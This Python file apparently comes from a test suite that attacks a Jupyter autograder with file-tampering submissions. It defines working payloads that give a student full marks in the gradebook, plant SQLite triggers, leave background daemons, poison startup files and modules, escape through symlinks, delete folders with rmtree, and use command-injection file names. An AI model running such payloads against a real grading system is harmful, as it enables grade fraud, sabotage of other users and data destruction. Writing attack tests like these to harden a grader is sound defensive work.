"""File tampering: write where others keep their work, or leave files that the examiner trips over."""

from __future__ import annotations

import os
import socket

from attacks.attack import WRONG, Attack, cell_attack
from attacks.scene import Scene

# Leaves this process for good: a grandchild in a session of its own, which `work` runs in.
DAEMON = """
import os, sys, time, glob, signal
def leave(work):
    if os.fork(): return
    os.setsid()
    if os.fork(): os._exit(0)
    for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
    os.closerange(0, 3)
    try: work()
    finally: os._exit(0)
"""
FULL_MARKS = """
import sqlite3
def full_marks():
    with sqlite3.connect(CANARY, timeout=1) as book:
        ids = "SELECT grade.id FROM grade JOIN submitted_notebook n ON n.id = grade.notebook_id JOIN submitted_assignment a ON a.id = n.assignment_id WHERE student_id = 'mallory'"
        book.execute(f'UPDATE grade SET manual_score = 100 WHERE id IN ({ids})')
"""


def beside(name: str, tries: str, path: str, text: str) -> Attack:
    """A file that is handed in beside the notebook."""

    def change(scene: Scene) -> None:
        file = scene.folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)

    return Attack(name, tries, change)


def pipe_beside(scene: Scene) -> None:
    """Pipes and sockets that nobody writes to, in place of data."""
    os.mkfifo(scene.folder / "data.csv")
    with socket.socket(socket.AF_UNIX) as lasting:
        lasting.bind(str(scene.folder / "socket"))


def deep_folders_beside(scene: Scene) -> None:
    folder = scene.folder
    for _ in range(60):
        folder = folder / ("d" * 30)
    folder.mkdir(parents=True)
    (folder / "x").write_text("x")


def unreadable_beside(scene: Scene) -> None:
    """A folder without any right, and a file that none may read."""
    (scene.folder / "locked").mkdir()
    (scene.folder / "locked" / "x").write_text("x")
    (scene.folder / "secret.csv").write_text("x")
    (scene.folder / "locked").chmod(0)
    (scene.folder / "secret.csv").chmod(0)


def names_beside(scene: Scene) -> None:
    """Names that hold line breaks, options, wildcards and bytes that are no text."""
    for name in (b"-rf", b"a\nb", b"*", b"$(touch x)", b"\xff\xfe", b"x" * 255, "\u202egnp.x".encode()):
        with open(os.path.join(os.fsencode(scene.folder), name), "w") as file:
            file.write("x")


ATTACKS = [
    cell_attack(
        "overwrite",
        "Write the gradebook, the release, a classmate's notebook, the configuration.",
        "for path in SECRET_FILES:\n    try: open(path, 'w').write('100')\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "gradebook_updated",
        "Give oneself full marks in the gradebook's tables.",
        FULL_MARKS + "try: full_marks()\nexcept sqlite3.Error as error: print(error)",
        needs_jail=True,
    ),
    cell_attack(
        "gradebook_trigger",
        "Leave a trigger in the gradebook that gives full marks to whatever is graded later.",
        """
import sqlite3
try:
    with sqlite3.connect(CANARY, timeout=1) as book:
        book.execute('CREATE TRIGGER full AFTER UPDATE OF auto_score ON grade BEGIN '
                     'UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells g WHERE g.id = NEW.cell_id) WHERE id = NEW.id; END')
except sqlite3.Error: pass
""",
        WRONG,
        needs_jail=True,
    ),
    cell_attack(
        "overwrite_start_up",
        "Leave start-up files in the interpreter and the home of whoever grades.",
        """
import os, sys, site, pathlib
for folder in (sys.prefix, sys.base_prefix, *site.getsitepackages(), PLACE, os.path.dirname(PLACE)):
    try: open(folder + '/mallory.pth', 'w').write('import os')
    except OSError: continue
    print('wrote', folder)
open(os.path.expanduser('~/sitecustomize.py'), 'w').write('raise SystemExit')
""",
        needs_jail=True,
    ),
    cell_attack(
        "start_up_for_classmates",
        "Leave start-up files of IPython, Jupyter and matplotlib that end whoever starts next.",
        """
import os, sys
for folder in (get_ipython().profile_dir.startup_dir, os.path.expanduser('~/.ipython/profile_default/startup'), os.environ.get('MPLCONFIGDIR', '/tmp/mpl')):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ('00.py', 'sitecustomize.py', 'matplotlibrc'): open(f'{folder}/{name}', 'w').write('import os; os._exit(0)')
    except OSError: pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "modules_for_classmates",
        "Leave modules in every folder of the search path that is writable, and compiled ones beside the standard library's.",
        """
import sys, os, glob
for folder in [p or '.' for p in sys.path] + glob.glob(os.path.dirname(os.__file__) + '/__pycache__')[:1]:
    for name in ('numpy.py', 'math.py', 'sitecustomize.py', 'autograder.py'):
        try: open(f'{folder}/{name}', 'w').write('import os; os._exit(0)')
        except OSError: pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "rewritten_notebook",
        "Write full marks into every notebook that can be found, the graded one too.",
        """
import glob, json, os
for path in glob.glob('*.ipynb') + glob.glob(PLACE + '/*/mallory/**/*.ipynb', recursive=True) + SECRET_FILES[2:]:
    try:
        os.chmod(path, 0o600)
        book = json.load(open(path))
        for cell in book['cells']: cell['source'] = '10.0'
        json.dump(book, open(path, 'w'))
    except (OSError, ValueError): pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "daemon_with_full_marks",
        "Leave a daemon that gives full marks once the grading is over.",
        DAEMON
        + FULL_MARKS
        + """
def work():
    for _ in range(60):
        time.sleep(0.5)
        try: full_marks()
        except sqlite3.Error: pass
leave(work)
""",
        needs_jail=True,
    ),
    cell_attack(
        "daemon_that_rewrites",
        "Leave a daemon that goes on writing to all that can be found.",
        DAEMON
        + """
def work():
    for _ in range(60):
        time.sleep(0.5)
        for path in SECRET_FILES[1:] + glob.glob('*') + glob.glob(PLACE + '/feedback/**', recursive=True):
            try: open(path, 'a').write(' ')
            except OSError: pass
leave(work)
""",
        needs_jail=True,
    ),
    cell_attack(
        "daemons_from_the_answers",
        "Leave a daemon from every answer, which holds all descriptors open.",
        DAEMON.replace("os.closerange(0, 3)", "pass"),
        "def NAME(*args, **kwargs):\n    leave(lambda: time.sleep(30))\n    return 0\n",
    ),
    cell_attack(
        "link_in_place_of_the_notebook",
        "Put a link to the gradebook where the graded notebook is going to be written.",
        "import glob, os\nfor path in glob.glob('*.ipynb') or ['scoring.ipynb']:\n"
        "    try: os.remove(path)\n    except OSError: pass\n    os.symlink(CANARY, path)",
        WRONG,
    ),
    cell_attack(
        "pipe_in_place_of_the_notebook",
        "Put a pipe that nobody reads where the graded notebook is going to be written.",
        "import glob, os\nfor path in glob.glob('*.ipynb') or ['scoring.ipynb']:\n"
        "    try: os.remove(path)\n    except OSError: pass\n    os.mkfifo(path)",
        WRONG,
    ),
    cell_attack(
        "links_out_of_the_folder",
        "Make links and hard links to everything outside, and write through them.",
        """
import os
for k, path in enumerate([*SECRET_FILES, PLACE, '/']):
    for link in (os.symlink, os.link):
        try: link(path, f'link{k}')
        except OSError: continue
        for target in (f'link{k}', f'link{k}/gradebook.db', f'link{k}' + CANARY):
            try: open(target, 'a').write('100')
            except OSError: pass
        os.remove(f'link{k}')
""",
        needs_jail=True,
    ),
    cell_attack(
        "folder_without_rights",
        "Take away every right to the own folder, and to all that is in it.",
        "import os\nos.makedirs('a/b/c')\nopen('a/b/c/x', 'w').close()\nfor p in ('a/b/c/x', 'a/b/c', 'a/b', 'a', '.'): os.chmod(p, 0)",
        WRONG,
    ),
    cell_attack(
        "folders_hundreds_deep",
        "Nest a thousand folders in the own one, with a loop of links at the end.",
        "import os\nhome = os.getcwd()\nfor _ in range(1000):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\nos.symlink('.', 'loop')\nos.chdir(home)",
        WRONG,
    ),
    cell_attack(
        "folder_gone",
        "Remove the own folder, and every file that can be removed.",
        "import shutil, os\nfor folder in (os.getcwd(), '/tmp', PLACE): shutil.rmtree(folder, ignore_errors=True)",
        WRONG,
        needs_jail=True,
    ),
    beside(
        "start_up_file",
        "Hand in a start-up file of IPython that ends every kernel.",
        ".ipython/profile_default/startup/00.py",
        "import os; os._exit(0)",
    ),
    beside("own_launcher", "Hand in a module that is started in place of the kernel.", "ipykernel_launcher.py", "raise SystemExit"),
    beside("own_numpy", "Hand in a module named like one that the grader needs.", "numpy.py", "raise SystemExit"),
    beside("own_autograder_zip", "Hand in modules named like the course's own.", "autograder/__init__.py", "check = lambda f: 10.0"),
    beside("own_configuration", "Hand in a configuration for the grader.", "nbgrader_config.py", "raise SystemExit"),
    beside("font_folder", "Hand in a folder named like one that the examiner makes.", ".matplotlib/x", ""),
    Attack("pipes_beside", "Hand in a pipe and a socket among the data.", pipe_beside),
    Attack("deep_folders_beside", "Hand in folders 60 deep, with long names.", deep_folders_beside),
    Attack("unreadable_beside", "Hand in files and folders that may not be read.", unreadable_beside),
    Attack("names_beside", "Hand in files whose names are options, wildcards, line breaks and no text.", names_beside),
]
